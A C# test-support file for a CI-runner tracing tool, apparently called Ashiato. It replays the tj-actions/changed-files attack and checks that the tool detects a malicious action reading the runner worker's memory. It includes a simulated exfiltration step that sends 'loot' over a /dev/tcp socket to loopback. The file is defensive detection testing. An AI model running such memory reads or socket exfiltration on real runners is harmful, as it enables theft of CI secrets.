using System.Globalization;
using System.Text.Json;
using FakeRunner.Protocol;

namespace Ashiato.Tracer.Tests.Support.Runners;

/// <summary>
/// The done-when of issue 14 on one trace: the malicious action evil-org/changed-files@v45, which reads the
/// Runner.Worker's memory (the tj-actions/changed-files attack), is in the trace with its job and step, is reported
/// by <c>ashiato detect</c> at HIGH severity with that read as evidence, and <c>ashiato query</c> answers which steps
/// read the worker's memory or connected out, and which action they ran.
/// </summary>
public static class AttackReport
{
    public const string Action = "evil-org/changed-files@v45";

    /// <summary>The id and name of the step that sends the loot out (appended to the scenario jobs).</summary>
    public const string UploadStep = "upload";

    /// <summary>
    /// Steps as <c>ashiato query</c> users would write it: every step's reads of its worker's memory and its
    /// connections, with the step's name and action, from the step and runner_job records joined on (job_id, step).
    /// </summary>
    public const string StepsThatReadTheWorkerOrConnected = """
        WITH steps AS (
            SELECT json_extract_string(data, '$.job_id') AS job_id, CAST(json_extract(data, '$.step') AS INTEGER) AS step,
                   json_extract_string(data, '$.name') AS name, json_extract_string(data, '$.action') AS action
            FROM events WHERE type = 'step' AND json_extract_string(data, '$.kind') <> 'runner'),
        workers AS (
            SELECT json_extract_string(data, '$.job_id') AS job_id, json_extract_string(data, '$.worker_pid') AS worker_pid
            FROM events WHERE type = 'runner_job'),
        acts AS (
            SELECT type, json_extract_string(data, '$.job_id') AS job_id, CAST(json_extract(data, '$.step') AS INTEGER) AS step,
                   json_extract_string(data, '$.path') AS path,
                   json_extract_string(data, '$.dst_addr') || ':' || json_extract_string(data, '$.dst_port') AS destination
            FROM events WHERE type IN ('file_open', 'net_connect') AND json_extract_string(data, '$.job_id') IS NOT NULL)
        SELECT DISTINCT a.job_id, a.step, s.name, s.action, 'read the worker memory' AS what, a.path AS target
        FROM acts a JOIN steps s USING (job_id, step) JOIN workers w USING (job_id)
        WHERE a.type = 'file_open' AND a.path = '/proc/' || w.worker_pid || '/mem'
        UNION ALL
        SELECT DISTINCT a.job_id, a.step, s.name, s.action, 'connected' AS what, a.destination AS target
        FROM acts a JOIN steps s USING (job_id, step)
        WHERE a.type = 'net_connect'
        ORDER BY job_id, step
        """;

    /// <summary><paramref name="job"/> with a last step that connects to <paramref name="port"/> on loopback.</summary>
    public static JobMessage WithUpload(JobMessage job, int port) =>
        job with
        {
            Steps = [.. job.Steps, new RunStep { Id = UploadStep, Run = $"exec 3<>/dev/tcp/127.0.0.1/{port.ToString(CultureInfo.InvariantCulture)}\necho loot >&3" }],
        };

    public static void AssertReported(string tracePath, IReadOnlyList<JsonElement> records, TracedJob job, int port)
    {
        var attacker = job.Probes["memory-dump"].Self.Pid;
        var worker = job.Result.WorkerPid;
        var memory = $"/proc/{worker.ToString(CultureInfo.InvariantCulture)}/mem";
        var id = job.JobId(records);

        // The trace: the read carries the job, and its step record names the action.
        var read = Assert.Single(records, r => r.Str("type") == "file_open" && r.Int("pid") == attacker && r.Str("path") == memory);
        Assert.Equal(id, read.Str("job_id"));
        var step = job.StepRecord(records, attacker);
        Assert.Equal(read.Int("step"), step.Int("step"));
        Assert.Equal(("action", "changed-files", Action), (step.Str("kind"), step.Str("name"), step.Str("action")));
        Assert.EndsWith("/_work/_actions/evil-org/changed-files/v45/dist/index.js", step.Str("script"));

        // detect: HIGH, with that very read as evidence.
        var detect = AshiatoCli.Cli("detect", "--format", "json", tracePath);
        Assert.True(detect.ExitCode == 0, detect.Stderr);
        var findings = JsonDocument.Parse(detect.Stdout).RootElement.GetProperty("findings").EnumerateArray().ToList();
        var finding = Assert.Single(findings, f => f.GetProperty("evidence").EnumerateArray().Any(e => e.Str("path") == memory && e.Int("pid") == attacker));
        Assert.Equal(("runner-memory-read", "high"), (finding.Str("rule"), finding.Str("severity")));
        var evidence = finding.GetProperty("evidence").EnumerateArray().Single(e => e.Str("path") == memory);
        Assert.Equal((id, read.Int("step")), (evidence.Str("job_id"), evidence.Int("step")));

        // query: which steps read the worker's memory or connected out, and which action they ran.
        var query = AshiatoCli.Cli("query", tracePath, "--format", "json", "--sql", StepsThatReadTheWorkerOrConnected);
        Assert.True(query.ExitCode == 0, query.Stderr);
        var rows = JsonDocument.Parse(query.Stdout).RootElement.EnumerateArray()
            .Where(row => row.Str("job_id") == id)
            .Select(row => (row.Int("step"), row.Str("name"), row.Str("action"), row.Str("what"), row.Str("target")))
            .ToList();
        var upload = job.Records(records, "step").Single(s => s.Str("name") == UploadStep).Int("step");
        Assert.Equal(
            [
                (read.Int("step"), "changed-files", Action, "read the worker memory", memory),
                (upload, UploadStep, null, "connected", $"127.0.0.1:{port.ToString(CultureInfo.InvariantCulture)}"),
            ],
            rows);
    }
}
